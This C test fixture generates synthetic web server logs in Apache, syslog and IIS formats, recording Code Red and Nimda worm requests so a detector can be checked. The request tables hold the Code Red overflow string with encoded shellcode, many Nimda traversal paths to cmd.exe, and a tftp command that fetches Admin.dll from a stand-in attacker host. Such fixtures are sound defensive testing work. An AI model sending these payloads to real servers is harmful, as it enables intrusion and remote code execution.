// SPDX-License-Identifier: Apache-2.0
// Requests of facts/worms.md, 3 and 4, and the forms of log that facts/weblogs.md tells.
#include "quality/log_forms.h"

#define FILL_10(c) c c c c c c c c c c
#define FILL_224(c) FILL_10(FILL_10(c)) FILL_10(FILL_10(c)) FILL_10(c) FILL_10(c) c c c c
#define TAIL \
	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090" \
	"%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
#define CMD "/winnt/system32/cmd.exe"
#define ATTACKER LOG_ATTACKER
#define SERVER "192.0.2.80"

static const struct request_text code_red_1[] = { { "/default.ida", FILL_224("N") TAIL } };
static const struct request_text code_red_2[] = { { "/default.ida", FILL_224("X") TAIL } };
static const struct request_text code_red_cut[] = { { "/default.ida", NULL } };
static const struct request_text nimda[] = { { "/scripts/root.exe", "/c+dir" },
	{ "/MSADC/root.exe", "/c+dir" }, { "/c" CMD, "/c+dir" }, { "/d" CMD, "/c+dir" },
	{ "/scripts/..%255c.." CMD, "/c+dir" },
	{ "/_vti_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
	{ "/_mem_bin/..%255c../..%255c../..%255c.." CMD, "/c+dir" },
	{ "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c.." CMD, "/c+dir" },
	{ "/scripts/..%c1%1c.." CMD, "/c+dir" }, { "/scripts/..%c0%2f.." CMD, "/c+dir" },
	{ "/scripts/..%c0%af.." CMD, "/c+dir" }, { "/scripts/..%c1%9c.." CMD, "/c+dir" },
	{ "/scripts/..%%35%63.." CMD, "/c+dir" }, { "/scripts/..%%35c.." CMD, "/c+dir" },
	{ "/scripts/..%25%35%63.." CMD, "/c+dir" }, { "/scripts/..%252f.." CMD, "/c+dir" } };
static const struct request_text tftp[] = { { "/scripts/root.exe",
	"/c+tftp%20-i%20" ATTACKER "%20GET%20Admin.dll%20Admin.dll" } };

const struct log_worm log_worms[] = {
	{ "code-red-1", STAGE_INFECTING, VERDICT_WORM, code_red_1, 1 },
	{ "code-red-2", STAGE_INFECTING, VERDICT_WORM, code_red_2, 1 },
	{ "code-red-unknown", STAGE_PROBING, VERDICT_SUSPECT, code_red_cut, 1 },
	{ "nimda", STAGE_PROBING, VERDICT_WORM, nimda, countof(nimda) },
	{ "nimda-tftp", STAGE_INFECTING, VERDICT_WORM, tftp, 1 },
};

static void write_common(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out,
		ATTACKER " - - [09/Aug/2001:12:00:%02u +0000] \"GET %s%s%s HTTP/1.0\" 404 283\n", s,
		path, q, query);
}

static void write_combined(
	FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out,
		ATTACKER " - - [09/Aug/2001:12:00:%02u +0000] \"GET %s%s%s HTTP/1.0\" 404 283 "
			 "\"-\" \"-\"\n",
		s, path, q, query);
}

static void write_syslog(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out, "Aug  9 12:00:%02u web1 httpd[33]: ", s);
	write_combined(out, s, path, q, query);
}

static void write_iis_5(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out, "2001-08-09 12:00:%02u " ATTACKER " - " SERVER " 80 GET %s %s 404 -\n", s,
		path, *q ? query : "-");
}

static void write_iis_7(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out, "2001-08-09 12:00:%02u " SERVER " GET %s %s 80 - " ATTACKER " - 404 0 2 15\n",
		s, path, *q ? query : "-");
}

static void write_native(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out,
		ATTACKER ", -, 08/09/01, 12:00:%02u, W3SVC1, WEB1, " SERVER
			 ", 15, 300, 500, 404, 2, GET, %s, %s,\n",
		s, path, *q ? query : "-");
}

static void write_httperr(FILE *out, unsigned s, const char *path, const char *q, const char *query)
{
	fprintf(out,
		"2001-08-09 12:00:%02u " ATTACKER " 8009 " SERVER
		" 80 HTTP/1.0 GET %s%s%s 400 - URL\n",
		s, path, q, query);
}

const struct log_form log_forms[] = {
	{ "Apache common", "", write_common },
	{ "Apache combined", "", write_combined },
	{ "combined in syslog", "", write_syslog },
	{ "IIS 5 W3C",
		"#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem "
		"cs-uri-query sc-status cs(User-Agent)\n",
		write_iis_5 },
	{ "IIS 5 W3C, no head", "", write_iis_5 },
	{ "IIS 7 W3C",
		"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
		"c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\n",
		write_iis_7 },
	{ "IIS 7 W3C, no head", "", write_iis_7 },
	{ "IIS native", "", write_native },
	{ "HTTPERR", "", write_httperr },
};

static_assert(countof(log_worms) == LOG_WORMS && countof(log_forms) == LOG_FORMS);
